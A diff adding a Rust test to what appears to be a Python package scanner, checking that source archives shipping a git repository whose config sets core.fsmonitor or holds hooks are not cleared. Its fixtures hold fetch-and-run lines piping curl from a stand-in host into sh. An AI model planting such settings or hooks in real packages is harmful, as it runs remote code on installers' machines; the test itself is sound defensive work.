@@ -4560,6 +4560,119 @@ fn a_source_package_that_ships_a_startup_file_is_not_cleared() {
     }
 }
 
+/// setuptools-scm, pdm-backend and poetry-dynamic-versioning run git (or
+/// Mercurial) in the unpacked source package when it holds a repository,
+/// and git runs what the repository's own settings and hooks name: `pip
+/// wheel` of cachetools with a `.git` whose `config` set `core.fsmonitor`
+/// ran the command, and the shipped gate allowed it (session 46).
+/// Rendering drops a repository as junk, so no reader sees its settings.
+/// Under thresholds that clear any score and no veto, a package with a
+/// clone's plain repository is allowed; one whose repository sets a
+/// command, holds a hook, or is named by a `.git` file, or with a
+/// Mercurial `hgrc` loading an extension, is inconclusive, naming it, and
+/// so is a version diff whose new release adds one.
+#[test]
+fn a_shipped_repository_whose_settings_run_commands_is_not_cleared() {
+    let c = Canary::new();
+    let lax = lax_config(&c);
+    let plain: &[u8] = b"[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.invalid/tinypkg.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n";
+    let fsmonitor: &[u8] = b"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"curl -s https://example.invalid/p | sh; false\"\n";
+    let hook: &[u8] = b"#!/bin/sh\ncurl -s https://example.invalid/p | sh\n";
+    let head: (&str, &[u8]) = ("tinypkg-1.0/.git/HEAD", b"ref: refs/heads/main\n");
+    // (archive, members beside tinypkg's, what the note names)
+    type Case<'a> = (&'a str, Vec<(&'a str, &'a [u8])>, Option<&'a str>);
+    let cases: [Case; 5] = [
+        (
+            "clone.tar.gz",
+            vec![
+                head,
+                ("tinypkg-1.0/.git/config", plain),
+                (
+                    "tinypkg-1.0/.git/hooks/pre-commit.sample",
+                    b"#!/bin/sh\nexec git diff --cached --check\n",
+                ),
+            ],
+            None,
+        ),
+        (
+            "fsmonitor.tar.gz",
+            vec![head, ("tinypkg-1.0/.git/config", fsmonitor)],
+            Some("tinypkg-1.0/.git/config: core.fsmonitor"),
+        ),
+        (
+            "hook.tar.gz",
+            vec![
+                head,
+                ("tinypkg-1.0/.git/config", plain),
+                ("tinypkg-1.0/.git/hooks/post-index-change", hook),
+            ],
+            Some("tinypkg-1.0/.git/hooks/post-index-change: a hook"),
+        ),
+        (
+            "gitfile.tar.gz",
+            vec![
+                ("tinypkg-1.0/.git", b"gitdir: tests/data/repo\n"),
+                ("tinypkg-1.0/tests/data/repo/HEAD", b"ref: refs/heads/main\n"),
+                (
+                    "tinypkg-1.0/tests/data/repo/config",
+                    b"[include]\n\tpath = ../../../docs/style.txt\n",
+                ),
+            ],
+            Some("tinypkg-1.0/tests/data/repo/config: include.path"),
+        ),
+        (
+            "hg.tar.gz",
+            vec![(
+                "tinypkg-1.0/.hg/hgrc",
+                b"[paths]\ndefault = https://example.invalid/tinypkg\n[extensions]\nnotes = docs/notes.txt\n",
+            )],
+            Some("tinypkg-1.0/.hg/hgrc: [extensions]"),
+        ),
+    ];
+    for (name, files, named) in &cases {
+        let p = tinypkg_sdist(&c, name, "", files);
+        let (o, r) = scan_path_json_under(&c, &lax, &p);
+        let Some(what) = named else {
+            assert_reason(&o, &r, (0, "precheck-harmless"));
+            continue;
+        };
+        assert_reason(&o, &r, (2, "inconclusive"));
+        let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
+        assert!(note.contains(what), "{what} in {note}");
+        assert!(note.contains("setuptools-scm"), "{note}");
+    }
+    // A release that adds a module and the repository's command, against
+    // one with the plain repository; the same release with the plain one
+    // is allowed.
+    let base = c.dir.path().join("clone.tar.gz");
+    let util: (&str, &[u8]) = (
+        "tinypkg-1.0/tinypkg/util.py",
+        b"def sub(a, b):\n    return a - b\n",
+    );
+    for (name, config, inconclusive) in [
+        ("up-plain.tar.gz", plain, false),
+        ("up-fsmonitor.tar.gz", fsmonitor, true),
+    ] {
+        let new = tinypkg_sdist(
+            &c,
+            name,
+            "",
+            &[head, ("tinypkg-1.0/.git/config", config), util],
+        );
+        let (o, r) = scan_diff_json_under(&c, &lax, &base, &new);
+        if !inconclusive {
+            assert_reason(&o, &r, (0, "precheck-harmless"));
+            continue;
+        }
+        assert_reason(&o, &r, (2, "inconclusive"));
+        let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
+        assert!(
+            note.contains("tinypkg-1.0/.git/config: core.fsmonitor"),
+            "{note}"
+        );
+    }
+}
+
 /// A CMake or Meson build runs the commands its script gives: scikit-build-core
 /// and meson-python ran `docs/notes.txt` as a shell script at `pip wheel`
 /// (session 44), and the readers took it for a document; Cargo compiles
